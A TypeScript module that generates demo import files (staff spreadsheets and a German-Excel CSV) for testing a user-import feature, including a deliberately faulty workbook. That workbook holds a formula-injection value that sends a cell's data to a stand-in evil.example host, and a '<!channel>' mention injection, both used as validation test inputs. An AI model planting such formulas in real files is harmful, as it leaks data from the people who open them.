import { type CellValue, Workbook } from 'exceljs';
import type { SampleFile } from '../workspace/options';

/** A cell of one of the samples; an array is rich text, every other piece of it bold. */
type Cell = CellValue | readonly string[];

const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** An address as spreadsheet programs keep it once it was typed: a text with a link behind it. */
const mail = (email: string): CellValue => ({ text: email, hyperlink: `mailto:${email}` });
const rich = (pieces: readonly string[]): CellValue => ({
  richText: pieces.map((text, index) => (index % 2 === 0 ? { text, font: { bold: true } } : { text })),
});

async function workbook(
  sheet: string,
  headers: readonly string[],
  rows: readonly (readonly Cell[])[],
): Promise<Buffer> {
  const book = new Workbook();
  book.creator = 'Orbit People Team';
  const worksheet = book.addWorksheet(sheet, { views: [{ state: 'frozen', ySplit: 1 }] });
  worksheet.addRow([...headers]).font = { bold: true };
  for (const row of rows) {
    worksheet.addRow(row.map((cell) => (Array.isArray(cell) ? rich(cell) : cell))).alignment = {
      wrapText: true,
      vertical: 'top',
    };
  }
  worksheet.columns.forEach((column) => {
    column.width = 24;
  });
  return Buffer.from(await book.xlsx.writeBuffer());
}

/** Eight new people as an office writes them down, and one who is there already. */
function newStarters(): Promise<Buffer> {
  const start = (day: number) => new Date(Date.UTC(2026, 11, day));
  return workbook(
    'December',
    ['First name', 'Last name', 'E-mail', 'Start date', 'User Profile', 'Projects', 'Groups'],
    [
      [['Ama', 'ra'], 'Nwosu', mail('amara.nwosu@orbit.example'), start(1), 'Tester', 'Apollo\nLantern Mobile', ''],
      ['Lars', 'Grönberg', mail('lars.groenberg@orbit.example'), start(1), 'Tester', 'Checkout Web', 'QA Berlin'],
      [
        'Yūto',
        ['Kobayashi', ' (小林)'],
        mail('yuto.kobayashi@orbit.example'),
        start(1),
        'Test Lead\nTester',
        'Zephyr API\nApollo',
        '',
      ],
      ['Beatriz', 'Moraes', mail('beatriz.moraes@orbit.example'), start(1), 'Read Only', 'Data Harbour', ''],
      ['Niamh', 'O’Sullivan', mail("niamh.o'sullivan@orbit.example"), start(8), 'Tester', 'Checkout Web\nApollo', ''],
      ['יעל', 'כהן', mail('yael.cohen@orbit.example'), start(8), 'Tester', 'Lantern Mobile', 'Contractors'],
      ['Farid', 'Rahimi', mail('farid.rahimi@orbit.example'), start(15), '', 'Data Harbour', 'Contractors'],
      ['Elif', 'Şahin', mail('elif.sahin@orbit.example'), start(15), 'Project Manager', 'Zephyr API', 'Release Board'],
      // Known already: moves on to a third project.
      [
        'Maya',
        'Okonkwo',
        mail('maya.okonkwo@orbit.example'),
        null,
        'Tester',
        'Apollo\nLantern Mobile\nCheckout Web',
        'QA Berlin',
      ],
    ],
  );
}

/** As a German Excel saves “CSV”: semicolons, Windows-1252, CRLF. */
function teamChanges(): Buffer {
  const lines = [
    'Login Email;First Name;Last Name;Status;Auth System;SSO Username;User Profile;Projects',
    // Married; nothing else changes.
    'juergen.weissmueller@orbit.example;Jürgen;Weißmüller-Groß;;;;;',
    'bjorn.angstrom@orbit.example;;Ångström Bäcklund;;;;;',
    // Changes teams.
    'zoe.vandenberghe@orbit.example;;;;;;"Test Lead\nTester";"Checkout Web\nApollo"',
    'kwame.mensah@orbit.example;;;;;;Tester;Data Harbour',
    // Leaves, and comes back.
    'pablo.nunez@orbit.example;;;Disabled;;;;',
    'mirjam.de.vries@orbit.example;;;Active;;;;',
    // Signs in by SSO from now on.
    'emre.yildiz@orbit.example;;;;SSO;eyildiz;;',
    // Stands here as it is.
    'chloe.dubois-lefevre@orbit.example;Chloé;Dubois-Lefèvre;Active;Internal;;;',
  ];
  return Buffer.from(`${lines.join('\r\n')}\r\n`, 'latin1');
}

/** What goes wrong in files that people write by hand, between rows that are right. */
function fullOfMistakes(): Promise<Buffer> {
  const formula = '=HYPERLINK("http://evil.example/?"&A2,"Click here")';
  return workbook(
    'People',
    ['Login Email', 'First Name', 'Last Name', 'Status', 'User Profile', 'Projects'],
    [
      ['karin.sundberg@orbit.example', 'Karin', 'Sundberg', '', 'Tester', 'Apollo'],
      ['milo.petrovic@orbit.example', 'Milo', 'Petrović', '', 'Tester', 'Apolo'],
      ['dana.white@orbit.example', 'Dana', 'White', '', 'Tester', 'Data Harbour'],
      ['Dana.White@orbit.example', 'Dana', 'White-Jones', '', 'Tester', 'Zephyr API'],
      ['kim.larsen(at)orbit.example', 'Kim', 'Larsen', '', 'Tester', 'Apollo'],
      ['longname@orbit.example', 'Bartholomew '.repeat(25).trim(), 'Long', '', 'Tester', 'Apollo'],
      // A text, not a formula: it is kept as it is, and no spreadsheet ever runs it.
      ['hyper.link@orbit.example', formula, 'Trick', '', 'Read Only', 'Apollo'],
      ['soeren.oestergaard@orbit.example', 'Søren', 'Østergaard', 'Actve', '', ''],
      ['ines.carvalho@orbit.example', 'Inês', 'Carvalho', 'Active', '', ''],
      ['', 'Nobody', 'Knows', '', 'Tester', 'Apollo'],
      ['leo.fontaine@orbit.example', 'Léo', 'Fontaine', 'New', 'Testr', 'Lantern Mobile'],
      ['ruth.abara@orbit.example', '<!channel>', '*Abara* & Sons', 'New', 'Tester', 'Lantern Mobile'],
    ],
  );
}

/** Sixty new people: more than the demo site has seats left. */
function seatsShort(): Promise<Buffer> {
  const first = ['Alva', 'Bilal', 'Carmen', 'Dimitri', 'Esra', 'Finn', 'Gloria', 'Hugo', 'Irina', 'Jonas'];
  const last = ['Aalto', 'Becker', 'Costa', 'Dahl', 'Eriksen', 'Fischer'];
  return workbook(
    'Summer school',
    ['Login Email', 'First Name', 'Last Name', 'User Profile', 'Projects'],
    last.flatMap((lastName) =>
      first.map((firstName) => [
        mail(`${firstName}.${lastName}@school.orbit.example`.toLowerCase()),
        firstName,
        lastName,
        'Read Only',
        'Apollo',
      ]),
    ),
  );
}

/** One red pixel. */
const picture = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==',
  'base64',
);

/** Files that lie ready to be dropped into the import channel. */
export async function demoSamples(): Promise<SampleFile[]> {
  return [
    {
      name: 'new-starters.xlsx',
      note: 'Eight new people with projects and profiles, and one who is here already.',
      mimetype: xlsx,
      bytes: await newStarters(),
    },
    {
      name: 'team-changes.csv',
      note: 'New names, teams and statuses of people who are here, saved by a German Excel.',
      mimetype: 'text/csv',
      bytes: teamChanges(),
    },
    {
      name: 'full-of-mistakes.xlsx',
      note: 'Good rows among bad ones: each mistake is named, and comes back as a file to correct.',
      mimetype: xlsx,
      bytes: await fullOfMistakes(),
    },
    {
      name: 'seats-short.xlsx',
      note: 'Sixty new people, more than there are free seats: see what you are told.',
      mimetype: xlsx,
      bytes: await seatsShort(),
    },
    {
      name: 'not-a-spreadsheet.xlsx',
      note: 'A picture with a spreadsheet’s name: is not believed.',
      mimetype: xlsx,
      bytes: picture,
    },
  ];
}
